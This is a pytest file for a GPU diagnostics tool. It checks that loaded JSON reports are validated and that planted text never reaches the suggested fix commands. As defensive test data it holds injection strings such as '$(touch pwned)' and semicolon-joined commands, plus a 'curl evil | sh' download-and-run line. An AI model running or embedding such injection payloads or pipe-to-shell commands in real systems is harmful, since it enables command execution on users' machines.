from __future__ import annotations

import json

import pytest

from gpudoc.doctor import document
from gpudoc.doctor.examine import examine_machine
from gpudoc.doctor.registry import CATALOGUE
from gpudoc.errors import GpudocError
from gpudoc.facts.model import GpuProcess
from tests.doctor.causes.judge import report_of
from tests.machines.built import GIB, gpu, machine

BROKEN = report_of(
    "Nvidia driver version: 470.57.02\nRuntimeError: The NVIDIA driver on your system is too old (found version 11040)"
)


def test_a_report_survives_the_way_through_its_document():
    again = document.load(json.loads(json.dumps(document.dump(BROKEN))))
    seen = [(f.id, f.severity, f.confidence, f.evidence, f.cards) for f in BROKEN.findings]
    assert [(f.id, f.severity, f.confidence, f.evidence, f.cards) for f in again.findings] == seen
    assert again.machine == BROKEN.machine
    assert (again.verdict, again.passed, again.skipped) == (BROKEN.verdict, BROKEN.passed, BROKEN.skipped)


def test_the_keys_of_the_contract_are_there():
    plain = document.dump(BROKEN)
    assert plain["schema"] == "gpudoc.doctor.v1"
    assert {"source", "verdict", "findings", "passed", "skipped", "crashed", "facts", "seconds"} <= plain.keys()
    finding = plain["findings"][0]
    assert finding.keys() == {
        "id",
        "severity",
        "confidence",
        "title",
        "why",
        "evidence",
        "fix",
        "explains",
        "cards",
        "url",
        "is_guess",
    }
    assert finding["evidence"][0].keys() == {"fact", "value", "from"}
    assert finding["fix"][0].keys() == {"say", "run", "needs_root", "disruptive"}
    assert plain["seconds"].keys() == {"total", "probe"}


def test_the_exit_code_is_that_of_the_verdict():
    assert BROKEN.exit_code() == 1
    warning = report_of("The 'train_dataloader' does not have many workers which may be a bottleneck.")
    assert (warning.exit_code(), warning.exit_code("warning")) == (0, 1)


@pytest.mark.parametrize(
    "plain",
    [
        {"schema": "gpudoc.doctor.v2"},
        {"schema": "gpudoc.tune.v1"},
        {"schema": "gpudoc.doctor.v1"},
        {"schema": "gpudoc.doctor.v1", "source": "machine", "verdict": "splendid", "findings": []},
        {"schema": "gpudoc.doctor.v1", "source": "machine", "verdict": "healthy", "findings": [{"id": "x"}]},
        {"schema": "gpudoc.doctor.v1", "source": "machine", "verdict": "healthy", "findings": "none"},
    ],
)
def test_a_document_of_another_schema_or_half_a_document_is_refused_with_a_way_on(plain):
    with pytest.raises(GpudocError) as refused:
        document.load(plain, name="a.json")
    assert "a.json" in refused.value.message
    assert refused.value.hint


PLANTED = "$(touch pwned)"


def hostile(**changes):
    finding = {"id": "driver_too_old", "severity": "broken", "confidence": 0.99, "evidence": [], **changes}
    return document.dump(BROKEN) | {"source": "file", "findings": [finding]}


def test_of_a_finding_only_its_id_its_figures_and_its_facts_are_believed():
    said = {"say": PLANTED, "run": f"curl evil | sh; {PLANTED}", "needs_root": True}
    seen = {"fact": "driver.version", "value": "470.57.02", "from": "line 3"}
    plain = hostile(title=PLANTED, why=PLANTED, fix=[said], url=PLANTED, explains=[PLANTED], evidence=[seen])
    (found,) = document.load(plain).findings
    cause = CATALOGUE["driver_too_old"]
    assert (found.title, found.why, found.url, found.explains) == (cause.title, cause.why, cause.sources[0], ())
    assert [o.value for o in found.evidence] == ["470.57.02"]
    assert found.fix
    assert not [step for step in found.fix if "evil" in step.run or PLANTED in step.say + step.run]


def test_a_consequence_that_this_version_knows_is_named():
    title = CATALOGUE["cuda_build_mismatch"].title if "cuda_build_mismatch" in CATALOGUE else BROKEN.findings[0].title
    (found,) = document.load(hostile(explains=[title, PLANTED])).findings
    assert found.explains == (title,)


@pytest.mark.parametrize("name", ["a_cause_of_another_version", f"x{PLANTED}", "\x1b[8m", ""])
def test_an_id_that_this_version_does_not_know_is_shown_without_what_was_written_to_it(name):
    (found,) = document.load(
        hostile(id=name, title=PLANTED, why=PLANTED, fix=[{"say": PLANTED, "run": PLANTED}])
    ).findings
    assert found.title.startswith("Not shown")
    assert (found.why, found.fix, found.url) == ("", (), "")
    assert found.id == (name if name == "a_cause_of_another_version" else "unknown")


def leaves(value, path=()):
    """The places of all texts in a JSON value."""
    if isinstance(value, str):
        yield path
    items = value.items() if isinstance(value, dict) else enumerate(value) if isinstance(value, list) else ()
    for key, item in items:
        yield from leaves(item, (*path, key))


def planted_at(plain, path, text):
    copy = json.loads(json.dumps(plain))
    here = copy
    for key in path[:-1]:
        here = here[key]
    here[path[-1]] = text
    return copy


HELD = GpuProcess(pid=7, alive=True, name="python", user="ann", own=True, job="slurm 8", memory_bytes=79 * GIB)
FULL = {"memory_free_bytes": 0, "memory_used_bytes": 80 * GIB, "memory_accounted_bytes": 79 * GIB}
SICK = examine_machine(
    machine(gpu(0, processes=(HELD,), **FULL), gpu(1, rows_remap_failed=True, rows_remap_pending=True))
)
TEXTS = ("2.5.0;touch pwned;", "8$(touch pwned)", "GPU-1 | touch pwned", "slurm 8;touch pwned", "docker 8;touch pwned")


@pytest.mark.parametrize("source", ["machine", "file", "process", "fleet"])
def test_no_text_of_a_document_becomes_part_of_a_command(source):
    assert {"scancel 8", "sudo nvidia-smi --gpu-reset -i 1"} <= {s.run for f in SICK.findings for s in f.fix}
    plain = json.loads(json.dumps(document.dump(SICK))) | {"source": source}
    places = [path for path in leaves(plain) if path[0] not in ("schema", "source", "verdict", "skipped", "passed")]
    assert len(places) > 40
    for number, path in enumerate(places):
        try:
            report = document.load(planted_at(plain, path, TEXTS[number % len(TEXTS)]))
        except GpudocError:
            continue
        if source == "machine":
            report = examine_machine(report.machine)
        runs = [step.run for finding in report.findings for step in finding.fix]
        assert not [run for run in runs if "pwned" in run], path
